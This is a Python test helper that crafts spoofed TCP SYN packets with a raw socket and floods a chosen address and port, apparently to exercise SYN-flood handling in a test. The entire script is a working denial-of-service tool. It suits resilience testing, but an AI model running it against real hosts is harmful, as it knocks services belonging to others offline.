#!/usr/bin/env python3
"""SYN flood from spoofed sources, for test_tcp_flood.sh.

  tcp_synflood.py DST PORT COUNT SECONDS

Sends COUNT SYNs to DST:PORT from random sources in 198.18.0.0/15 (the
benchmarking range) and random ports, spread over SECONDS, through a raw
socket (the kernel fills in the IPv4 checksum; the TCP one is ours).
Prints how many were sent.
"""
import random
import socket
import struct
import sys
import time


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def syn(src, dst, sport, dport, seq):
    # MSS 1460, SACK permitted, timestamps, window scale 7: what Linux sends.
    opts = struct.pack("!BBH", 2, 4, 1460) + bytes([4, 2, 8, 10]) + struct.pack("!II", seq, 0) \
        + bytes([1, 3, 3, 7])
    hlen = 20 + len(opts)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (hlen // 4) << 4, 0x02, 64240, 0, 0) + opts
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, 6, 0,
                     src, dst)
    return ip + tcp


def main():
    dst, port, count, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    d = socket.inet_aton(dst)
    start = time.time()
    sent = 0
    batch = 500
    while sent < count:
        for _ in range(min(batch, count - sent)):
            src = struct.pack("!I", (198 << 24) | (18 << 16) | random.getrandbits(17))
            try:
                s.sendto(syn(src, d, random.randint(1024, 65535), port, random.getrandbits(32)),
                         (dst, 0))
                sent += 1
            except OSError:
                time.sleep(0.001)  # the veth's queue is full: a moment
        ahead = start + secs * sent / count - time.time()
        if ahead > 0:
            time.sleep(ahead)
    print(sent)


if __name__ == "__main__":
    main()
